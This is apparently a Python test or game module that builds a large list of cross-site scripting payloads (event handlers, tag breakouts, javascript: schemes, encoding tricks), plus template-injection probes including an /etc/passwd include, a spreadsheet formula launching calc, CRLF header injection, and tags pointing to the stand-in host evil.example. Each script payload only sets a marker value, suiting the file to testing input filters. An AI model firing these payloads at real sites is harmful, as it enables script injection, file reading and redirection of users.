"""Texts that try to run: every element, event, scheme and quotation that has worked somewhere.

``window.hit`` is what they would set; nothing else in the game does.
"""

from itertools import product

RUN = "window.hit=1"
ELEMENTS = ("img src=x", "svg", "body", "video src=x", "audio src=x", "details open", "marquee")
EVENTS = ("onerror", "onload", "onfocus autofocus", "ontoggle", "onstart", "onpointerenter")
BREAKS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "]]>", "</style>")
SCHEMES = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    " javascript:",
    "data:text/html,",
    "vbscript:",
)

PAYLOADS = (
    *(f"<{element} {event}={RUN}>" for element, event in product(ELEMENTS, EVENTS)),
    *(f"{end}<script>{RUN}</script>" for end in BREAKS),
    *(f"{end}<img src=x onerror={RUN}>" for end in BREAKS),
    *(f'<a href="{scheme}{RUN}">x</a>' for scheme in SCHEMES),
    *(f'<iframe src="{scheme}{RUN}"></iframe>' for scheme in SCHEMES),
    *(f"[x]({scheme}{RUN})" for scheme in SCHEMES),
    *(f'"{space}onfocus={RUN}{space}autofocus{space}x="' for space in (" ", "/", "\n")),
    *(f"'{space}onmouseover={RUN}{space}x='" for space in (" ", "/", "\n")),
    f"{{{{ {RUN} }}}}",
    "{{ config }}",
    "{% include '/etc/passwd' %}",
    "${window.hit=1}",
    "#{window.hit=1}",
    "<%= window.hit=1 %>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<svg><script>{RUN}</script></svg>",
    f"<math><mtext><script>{RUN}</script></mtext></math>",
    f"<template><script>{RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f"<object data='data:text/html,<script>{RUN}</script>'></object>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<form action=//evil.example/><button>x</button></form>",
    "<style>@import url(//evil.example/x.css)</style>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<x contenteditable onblur={RUN}>x</x>",
    f"＜script＞{RUN}＜/script＞",
    "=cmd|' /C calc'!A0",
    "%0d%0aSet-Cookie:x=1",
)
